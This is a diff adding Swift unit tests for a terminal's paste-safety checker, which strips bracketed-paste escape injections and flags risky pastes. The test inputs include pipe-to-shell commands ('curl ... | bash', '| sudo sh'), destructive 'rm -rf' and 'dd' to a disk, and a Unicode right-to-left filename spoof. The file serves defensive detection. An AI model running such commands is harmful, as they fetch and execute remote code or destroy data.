@@ -0,0 +1,34 @@
+import XCTest
+@testable import InfinittyKit
+
+final class PasteTests: XCTestCase {
+    /// Escapes can't end bracketed paste early; line breaks become
+    /// carriage returns.
+    func testStripsControlCharacters() {
+        let check = PasteCheck("echo hi\u{1B}[201~\u{03}\r\nls\tx\u{9B}", bracketed: true)
+        XCTAssertEqual(check.text, "echo hi[201~\rls\tx")
+        XCTAssertEqual(check.removed, 3)
+        XCTAssertEqual(check.lineCount, 2)
+        XCTAssertEqual(check.concerns, [])
+        XCTAssertEqual(check.bytes, Array("\u{1B}[200~echo hi[201~\rls\tx\u{1B}[201~".utf8))
+        XCTAssertEqual(PasteCheck("ls", bracketed: false).bytes, Array("ls".utf8))
+    }
+
+    func testConcerns() {
+        XCTAssertEqual(PasteCheck("make\nmake test\n", bracketed: false).concerns, [.multiline])
+        XCTAssertEqual(PasteCheck("cd /tmp && sudo make install", bracketed: true).concerns, [.privileged])
+        XCTAssertEqual(PasteCheck("curl -fsSL https://x.sh | bash", bracketed: true).concerns, [.pipeToShell])
+        XCTAssertEqual(PasteCheck("rm -rf build", bracketed: true).concerns, [.destructive])
+        XCTAssertEqual(PasteCheck("dd if=x.img of=/dev/disk4", bracketed: true).concerns, [.destructive])
+        XCTAssertEqual(PasteCheck("curl https://x.sh | sudo sh\n", bracketed: false).concerns,
+                       [.multiline, .privileged, .pipeToShell])
+        let spoofed = PasteCheck("ls \u{202E}txt.exe\u{200B}", bracketed: true)
+        XCTAssertEqual(spoofed.concerns, [.hidden])
+        XCTAssertEqual(spoofed.hidden, 2)
+        XCTAssertEqual(spoofed.text, "ls \u{202E}txt.exe\u{200B}")
+        XCTAssertEqual(spoofed.visibleText, "ls <U+202E>txt.exe<U+200B>")
+        for harmless in ["pseudo-code", "rm notes.txt", "git diff | less", "visudo-ish"] {
+            XCTAssertEqual(PasteCheck(harmless, bracketed: false).concerns, [], harmless)
+        }
+    }
+}